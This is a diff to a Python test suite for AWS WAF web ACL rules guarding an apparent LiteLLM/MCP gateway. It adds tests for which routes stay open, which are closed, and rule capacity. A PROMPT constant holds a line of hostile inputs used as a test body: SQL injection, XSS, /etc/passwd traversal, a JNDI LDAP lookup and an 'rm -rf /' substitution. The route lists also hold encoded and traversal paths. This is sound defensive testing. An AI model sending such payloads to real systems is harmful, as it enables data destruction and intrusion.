@@ -33,6 +33,9 @@ OFFICE = str(
     )
 )
 
+# Of the local environment, which has one address for management.
+VISITOR = str(next(address for address in ENVIRONMENTS["local"].ingress.cidrs[0].hosts() if address.packed[-1] > 100))
+
 # 1 MB that rules for SQL injection, cross-site scripting, file inclusion and code execution would all refuse.
 PROMPT = "'; DROP TABLE users; -- <script>alert(1)</script> ../../etc/passwd ${jndi:ldap://x/a} $(rm -rf /) " * 10_000
 
@@ -197,6 +200,25 @@ CLOSED_ROUTES = (
     *("/guardrails/test_custom_code", "/guardrails/test_custom_code/", "/guardrails/%74est_custom_code"),
     *("/mcp-rest/test/connection", "/mcp-rest/test/tools/list", "/mcp-rest/test", "/MCP-REST/test/connection"),
 )
+# What `ingress.also_open` opens of the example's config.yaml: in its first environment, which the local one is as.
+ALSO_OPEN = (
+    *("/mcp", "/mcp/", "/mcp/wiki", "/mcp/wiki,other", "/mcp/proxy", "/mcp/sse", "/mcp/sse/messages", "/wiki/mcp"),
+    *("/toolset/night/mcp", "/mcp-rest/tools/list", "/mcp-rest/tools/call", "/house", "/h%6fuse", "//house"),
+)
+BESIDE_ALSO_OPEN = (
+    *("/other/mcp", "/openai/mcp", "/wiki/mcp/x", "/wiki/authorize", "/wiki/token", "/mcp/wiki/x", "/mcpx", "/MCP"),
+    *(
+        "/v1/mcp/server",
+        "/v1/mcp/tools",
+        "/toolset/mcp",
+        "/mcp-rest/tools",
+        "/house/x",
+        "/house/",
+        "/housex",
+        "/x/house",
+    ),
+    *("/x/house", "/.well-known/oauth-protected-resource/mcp", "/authorize", "/register", "/user/new"),
+)
 # A way back: WAF would judge where it leads to, LiteLLM answers for where it begins, as its router resolves nothing.
 WAYS_BACK = (
     "/metrics/../v1/models",
@@ -306,6 +328,37 @@ def test_what_the_ui_does_without_stays_with_management(web_acl: WebAcl, path: s
     assert web_acl.verdict(Request(path, OFFICE, method="GET")) == Verdict(403, "ManagementRoutes")
 
 
+# What is also open
+
+
+@pytest.fixture(scope="module")
+def wider(templates: Templates) -> WebAcl:
+    """The web ACL of an environment with all of it open, and one address for management."""
+    return WebAcl(templates["local"]["Gateway"])
+
+
+@pytest.mark.parametrize("path", ALSO_OPEN)
+def test_what_is_also_open_answers_everyone_and_nothing_looks_into_it(
+    web_acl: WebAcl, wider: WebAcl, path: str
+) -> None:
+    """What tools are given is as much a text of people's as a prompt is."""
+    request = Request(path, VISITOR, body=PROMPT)
+    assert wider.verdict(request) == Verdict()
+    assert wider.body_inspectors(request) == set()
+    assert web_acl.verdict(Request(path, OFFICE)) == Verdict(403, "ManagementRoutes")
+    assert web_acl.verdict(Request(path, OPERATOR)) == Verdict()
+
+
+@pytest.mark.parametrize("path", BESIDE_ALSO_OPEN)
+def test_what_is_also_open_is_narrow(wider: WebAcl, path: str) -> None:
+    assert wider.verdict(Request(path, VISITOR)) == Verdict(403, "ManagementRoutes")
+
+
+@pytest.mark.parametrize("path", [*CLOSED_ROUTES, *WAYS_BACK, "/mcp/../house", "/house/../user/new"])
+def test_what_is_closed_stays_closed(wider: WebAcl, path: str) -> None:
+    assert wider.verdict(Request(path, VISITOR)).status == 403
+
+
 # Routes that answer nobody
 
 
@@ -332,8 +385,13 @@ def test_ranges_are_those_of_the_settings(templates: Templates, environment: Env
 
 @in_every_environment
 def test_rules_are_the_same_in_every_environment(templates: Templates, environment: Environment) -> None:
+    """But for what an environment opens, of which a rule tells and another one lets the bodies be."""
     found = WebAcl(templates[environment.name]["Gateway"])
-    assert found.rules == WebAcl(templates["prod"]["Gateway"]).rules
+    others = WebAcl(templates["prod"]["Gateway"]).rules
+    assert [rule["Name"] for rule in found.rules] == [rule["Name"] for rule in others]
+    differ = {rule["Name"] for rule, other in zip(found.rules, others, strict=True) if rule != other}
+    opens = {"ManagementRoutes", "AWSManagedRulesKnownBadInputsRuleSet"}
+    assert differ == (opens if environment.ingress.also_open else set())
     assert "Allow" in found.acl["DefaultAction"]  # what none of them refuses
 
 
@@ -397,9 +455,9 @@ def test_rate_of_sign_ins(web_acl: WebAcl, method: str, path: str, counted: bool
     assert web_acl.matches(rate["ScopeDownStatement"], Request(path, OFFICE, method=method)) is counted
 
 
-def test_capacity(web_acl: WebAcl) -> None:
+def test_capacity(web_acl: WebAcl, wider: WebAcl) -> None:
     """At most 1500 units, what a web ACL has without further cost (AWS WAF pricing and quotas)."""
-    assert web_acl.capacity() <= 1500
+    assert web_acl.capacity() < wider.capacity() <= 1500
 
 
 def _rule(web_acl: WebAcl, name: str) -> dict[str, Any]:
@@ -411,7 +469,7 @@ def _rule(web_acl: WebAcl, name: str) -> dict[str, Any]:
 def test_regular_expressions_are_within_the_limits(templates: Templates) -> None:
     """https://docs.aws.amazon.com/waf/latest/developerguide/limits.html and …/waf-regex-pattern-support.html."""
     unsupported = re.compile(r"\\[1-9CRK]|\(\?[>(|&RP!=<]|\(\*|[*+?}]\+")
-    template = templates["prod"]["Gateway"]
+    template = templates["local"]["Gateway"]
     patterns = only(template, "AWS::WAFv2::RegexPatternSet")["RegularExpressionList"]
     assert 1 <= len(patterns) <= 10
     rules = json.dumps(only(template, "AWS::WAFv2::WebACL"))
